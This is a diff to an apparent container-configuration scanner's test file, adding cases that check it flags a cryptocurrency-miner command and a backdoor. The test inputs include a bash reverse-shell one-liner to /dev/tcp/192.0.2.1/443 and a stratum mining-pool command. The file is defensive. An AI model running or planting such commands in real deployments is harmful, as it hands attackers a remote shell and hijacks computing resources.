@@ -72,6 +72,17 @@ const cases: readonly (readonly [id: string, input: Input, said: readonly string
     service(['volumes: ["/run/user/1000/podman/podman.sock:/s"]']),
     ['service web mounts /run/user/1000/podman/podman.sock at /s'],
   ],
+  [
+    'miner',
+    service(['command: ["-o", "stratum+tcp://pool.example:3333", "--coin=monero"]']),
+    ['service web is started so: protocol of mining pools, coin to be mined'],
+  ],
+  ['miner', service(['command: ["nginx"]']), []],
+  [
+    'backdoor-script',
+    service(['command: ["sh", "-c", "bash -i >& /dev/tcp/192.0.2.1/443 0>&1"]']),
+    ['service web is started so: opens a shell to the network'],
+  ],
   ['capabilities-kept', podmanContainer([]), []],
   ['capabilities-kept', podmanContainer(['CAP_CHOWN']), ['container c does not drop all capabilities']],
   ['engine-socket', service(['volumes: ["data:/var/run/docker.sock"]']), []],
